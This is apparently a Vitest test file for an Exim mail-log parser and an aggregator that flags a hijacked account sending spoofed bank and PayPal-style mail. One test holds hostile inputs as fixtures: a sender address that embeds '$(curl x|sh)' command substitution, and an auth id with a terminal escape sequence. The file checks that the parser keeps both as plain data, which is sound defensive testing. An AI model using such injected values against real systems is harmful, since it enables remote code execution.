import { describe, expect, it } from 'vitest';
import { AuthAggregator } from '../../src/logs/aggregate.js';
import { parseEximLog, parseHostField } from '../../src/mta/exim/logs.js';
import { fixture, iso, NOW } from './helpers.js';

describe('exim log parser', () => {
  const ev = parseEximLog(fixture('exim', 'mainlog'));

  it('counts every <= arrival and nothing else', () => {
    expect(ev.submissions).toHaveLength(13);
    expect(ev.submissions.every((s) => s.source === 'exim-arrival')).toBe(true);
    expect(ev.warnings).toEqual([]);
  });

  it('reads A=authenticator:id, H= with helo/IPv6/bracketed helo, S= and the for list', () => {
    const byId = new Map(ev.submissions.map((s) => [s.queueId, s]));
    expect(byId.get('1vZa0C-000AbE-3z')).toEqual({
      time: iso('2025-12-31T23:59:58Z'),
      queueId: '1vZa0C-000AbE-3z',
      sender: 'info@secure-bank.example.net',
      authenticator: 'dovecot_login',
      authId: 'alice@example.com',
      clientIp: '203.0.113.20',
      clientHost: 'WIN-AB12',
      size: 4410,
      recipients: 3,
      source: 'exim-arrival',
    });
    expect(byId.get('1vZa0E-000AbG-5b')).toMatchObject({ clientIp: '2001:db8::1', clientHost: 'mail.attacker.example', recipients: 4 });
    expect(byId.get('1vZa0E-000AbG-5b')?.time).toBe(iso('2026-01-01T00:00:04Z'));
    expect(byId.get('1vZa0F-000AbH-6c')).toMatchObject({ clientIp: '203.0.113.22', time: iso('2026-01-01T00:00:05Z') });
    expect(byId.get('1vZa0G-000AbI-7d')).toMatchObject({ sender: '', authId: 'alice@example.com' });
    expect(byId.get('1vZa0B-000AbD-2y')).toMatchObject({ sender: '', recipients: 1 });
    expect(byId.get('1vZa0B-000AbD-2y')?.authId).toBeUndefined();
    // A=fixed_cram without :id — authenticated, id not logged
    const k = byId.get('1vZa0K-000AbM-1h');
    expect(k?.authenticator).toBe('fixed_cram');
    expect(k?.authId).toBeUndefined();
    // no "for" clause: recipients unknown
    expect(byId.get('1vZa0J-000AbL-0g')?.recipients).toBeUndefined();
    // unauthenticated inbound
    expect(byId.get('1vZa0I-000AbK-9f')).toMatchObject({ recipients: 2, clientHost: 'mx.lists.example.org' });
    expect(byId.get('1vZa0I-000AbK-9f')?.authenticator).toBeUndefined();
  });

  it('does not take A= from a quoted subject or from => (client-side) lines', () => {
    const ids = ev.submissions.map((s) => s.authId);
    expect(ids).not.toContain('admin');
    expect(ids).not.toContain('relayuser');
  });

  it('keeps hostile content as data', () => {
    const l = ev.submissions.find((s) => s.queueId === '1vZa0L-000AbN-2i');
    expect(l?.sender).toBe('"$(curl x|sh)"@example.com');
    const m = ev.submissions.find((s) => s.queueId === '1vZa0M-000AbO-3j');
    expect(m?.authId).toBe('mallory\x1b[0m');
    expect(m?.clientIp).toBe('203.0.113.67');
  });

  it('reads failures, with and without set_id; `ignoring AUTH=` is neither', () => {
    expect(ev.failures).toEqual([
      { time: iso('2025-12-31T23:55:10Z'), authenticator: 'dovecot_login', clientIp: '203.0.113.77', user: 'alice@example.com' },
      { time: iso('2025-12-31T23:55:12Z'), authenticator: 'dovecot_login', clientIp: '203.0.113.77', user: 'alice@example.com' },
      { time: iso('2025-12-31T23:55:14Z'), authenticator: 'dovecot_login', clientIp: '203.0.113.78' },
    ]);
  });

  it('makes the hijacked account the top user', () => {
    const agg = new AuthAggregator();
    for (const s of ev.submissions) agg.add(s);
    for (const f of ev.failures) agg.addFailure(f);
    const [top, second] = agg.result();
    expect(top).toMatchObject({
      authId: 'alice@example.com',
      messages: 5,
      recipients: 11,
      nullSenders: 1,
      failures: 2,
      senderDomains: { 'secure-bank.example.net': 1, 'paypa1.example': 2, 'example.com': 1 },
      perDay: { '2025-12-31': 1, '2026-01-01': 4 },
      firstSeen: iso('2025-12-31T23:59:58Z'),
      lastSeen: iso('2026-01-01T00:00:06Z'),
    });
    expect(top?.clientIps.sort()).toEqual(['2001:db8::1', '203.0.113.20', '203.0.113.21', '203.0.113.22', '203.0.113.23']);
    expect(second).toMatchObject({ authId: 'bob@example.com', messages: 3, recipients: 2 });
    expect(agg.summary()).toMatchObject({ messages: 13, authenticatedWithoutId: 1, nullSenders: 2, failures: 3 });
  });

  it('reads exim through syslog', () => {
    const s = parseEximLog(fixture('exim', 'syslog'), { nowSeconds: NOW });
    expect(s.submissions.map((x) => [x.time, x.authId, x.clientIp])).toEqual([
      [iso('2025-12-31T23:59:58Z'), 'alice@example.com', '203.0.113.20'],
      [iso('2026-01-01T00:00:03Z'), 'alice@example.com', '2001:db8::2'],
    ]);
    expect(s.failures).toEqual([
      { time: iso('2026-01-01T00:00:09Z'), authenticator: 'dovecot_login', clientIp: '203.0.113.77', user: 'bob' },
    ]);
  });
});

describe('parseHostField', () => {
  it('takes the bracket outside the HELO parentheses', () => {
    expect(parseHostField('([1.2.3.5]) [1.2.3.4]:55379: 535')).toMatchObject({ helo: '[1.2.3.5]', ip: '1.2.3.4', port: 55379 });
    expect(parseHostField('host.example (my helo) [2001:DB8::5]:25 x')).toMatchObject({
      host: 'host.example',
      helo: 'my helo',
      ip: '2001:db8::5',
      port: 25,
    });
    expect(parseHostField('[192.0.2.1]')).toMatchObject({ ip: '192.0.2.1' });
    expect(parseHostField('nonsense')).toBeNull();
  });
});
